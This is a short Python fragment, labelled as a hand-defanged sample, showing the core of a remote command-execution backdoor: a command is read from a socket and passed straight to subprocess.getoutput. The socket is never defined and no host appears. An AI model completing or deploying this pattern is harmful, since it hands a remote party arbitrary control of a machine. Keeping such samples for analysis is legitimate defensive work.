# Defanged sample: nothing here is reached or run; defanged by hand.
import socket, subprocess
command = s.recv(1024).decode()
out = subprocess.getoutput(command)
